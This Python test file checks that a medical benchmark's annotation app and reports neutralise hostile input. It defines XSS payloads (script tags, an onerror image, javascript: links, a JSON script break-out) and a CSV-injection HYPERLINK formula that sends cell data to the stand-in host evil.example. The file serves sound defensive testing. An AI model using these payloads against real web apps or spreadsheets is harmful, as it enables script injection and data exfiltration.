"""Issue 49's acceptance in the browser test CI runs: a ``--private`` run whose questions, options, references,
replies and judge reasoning carry ``<script>``, ``</script>`` inside JSON, ``javascript:`` links, U+2028/U+2029/
U+0085 and ``=HYPERLINK(…)`` completes; its annotation set samples, is served and answered in headless Chromium,
exports, and feeds ``report --annotations``; no script runs in the app or the report; no CSV cell begins with a
formula; and the report written elsewhere is owner-only."""

from __future__ import annotations

import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import chromium_page
from fault_server import FaultServer, Reply, ok
from test_annotate_browser import Server
from typer.testing import CliRunner

from xlingmed.annotate import load_annotation_set
from xlingmed.cli import app
from xlingmed.runner import evaluate
from xlingmed.tasks.correctness.judge import OPTIONS

SEP = "\u2028 \u2029 \u0085"
FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"see source")'
SCRIPT = "<script>window.__pwned=1</script>"
PAYLOAD = (
    f'{SCRIPT}<img src=x onerror="window.__pwned=2"><a href="javascript:window.__pwned=3">click</a> {SEP} '
    f'{{"a": "</script><script>window.__pwned=4</script>"}} {FORMULA}'
)


def _reply(prompt: str, attempt: int) -> Reply:
    if "Answer 2 provides" in prompt:  # the correctness judge: its reasoning carries the payload
        return ok(f"{FORMULA} reasoning {PAYLOAD}\n{OPTIONS[2][1]}")
    if "B." in prompt or "B)" in prompt:  # a multiple-choice question
        return ok(f"{FORMULA} {PAYLOAD}\nAnswer: B")
    return ok(f"{FORMULA} {PAYLOAD}")


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory, data_dir: Path) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("untrusted")
    old = os.umask(0o022)
    qa, mcq = root / "qa.json", root / "mcq.json"
    qa.write_text(json.dumps([
        {"id": f"q{i}", "lang": lg, "question": f"{FORMULA} dose {i}? {PAYLOAD}", "reference": f"+{i} mg {PAYLOAD}"}
        for i in range(3) for lg in ("en", "es")
    ]), encoding="utf-8")  # fmt: skip
    mcq.write_text(json.dumps([
        {"id": f"m{i}", "lang": lg, "question": f"@SUM(A1) which? {PAYLOAD}", "A": f"-1 {PAYLOAD}",
         "B": f"={i} {PAYLOAD}", "C": f"javascript:alert(1) {SEP}", "D": "</script>", "answer": "B"}
        for i in range(3) for lg in ("en", "es")
    ]), encoding="utf-8")  # fmt: skip
    common = {"languages": "en,es", "model": "openai/m", "cache": root / "c.sqlite", "max_tokens": 64}
    try:
        with FaultServer(_reply) as server:
            qa_run = evaluate(benchmark=f"qa:{qa}", tasks="correctness", base_url=server.url, out=root / "run_qa",
                              private=True, **common)  # fmt: skip
            mc_run = evaluate(benchmark=f"mcq:{mcq}", tasks="multiple_choice", base_url=server.url,
                              out=root / "run_mc", **common)  # fmt: skip
        assert qa_run.summary["failures"] == {} and mc_run.summary["failures"] == {}
        result = CliRunner().invoke(app, ["annotate", "sample", str(root / "run_qa"), "--out", str(root / "set"),
                                          "--fraction", "1", "--annotators", "ana,ben"])  # fmt: skip
        assert result.exit_code == 0, result.output
        yield root
    finally:
        os.umask(old)


@pytest.mark.slow  # two runs, an annotation session and two reports in Chromium: about a minute
def test_payloads_survive_the_set_the_app_and_the_reports_and_run_nowhere(runs: Path) -> None:
    aset = load_annotation_set(runs / "set")
    assert len(aset.items) == 6
    assert all(SEP in it[k] and SCRIPT in it[k] for it in aset.items for k in ("question", "answer", "judge_reasoning"))
    server = Server(runs / "set")
    server.start()
    problems: list[str] = []
    try:
        with chromium_page(problems) as page:
            for who, verdict in (("ana", "agree"), ("ben", "disagree")):
                page.goto(f"{server.base}/a/{aset.annotators[who]}")
                for _ in aset.items:
                    assert SCRIPT in page.locator("#answer").inner_text()  # shown as text
                    for link in page.locator("#answer a, #question a").all():  # no markup made links
                        link.click()
                    assert page.evaluate("window.__pwned") is None
                    page.check(f"#{verdict}")
                    if verdict == "disagree":
                        page.select_option("#label", "contradictory")
                        page.fill("#reason", f"{FORMULA} {PAYLOAD}")  # the annotator's own text, into answers.csv
                    with page.expect_navigation():
                        page.click("#save")
    finally:
        assert server.proc is not None
        server.proc.terminate()
        server.proc.wait()
    assert not problems, problems

    cli = CliRunner()
    assert cli.invoke(app, ["annotate", "export", str(runs / "set")]).exit_code == 0
    shared = runs / "shared"
    shared.mkdir(mode=0o755)
    for args in (
        ["report", str(runs / "run_qa"), "--annotations", str(runs / "set"), "--out", str(shared / "report_qa")],
        ["report", str(runs / "run_mc"), "--out", str(runs / "report_mc")],
    ):
        result = cli.invoke(app, [*args, "--resamples", "100"])
        assert result.exit_code == 0, result.output
    # the private run's report, written in a shared folder, is owner-only
    written = [shared / "report_qa", *(shared / "report_qa").rglob("*")]
    assert len(written) > 5 and [p for p in written if stat.S_IMODE(p.stat().st_mode) & 0o077] == []

    for html in (shared / "report_qa" / "index.html", runs / "report_mc" / "index.html"):
        with chromium_page(problems) as page:
            page.goto(html.as_uri(), wait_until="load")
            assert page.locator("#explorer-body section.item").count() == 3  # the explorer drew every item
            assert page.evaluate("window.__pwned") is None
            assert SCRIPT in page.locator("#explorer-body").inner_text()  # the payload is there, as text
            assert page.locator("#x-items script, #x-items img, #explorer-body a").count() == 0
    assert not problems, problems

    # no CSV cell a spreadsheet would run: the run folders, the set's exports, the reports' tables
    checked, formulas = 0, []
    for path in runs.rglob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for r, row in enumerate(csv.reader(fh)):
                for cell in row:
                    checked += 1
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(cell):
                        formulas.append(f"{path.relative_to(runs)} row {r}: {cell[:40]!r}")
    print(f"{checked} CSV cells checked")
    assert checked > 500 and formulas == []


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
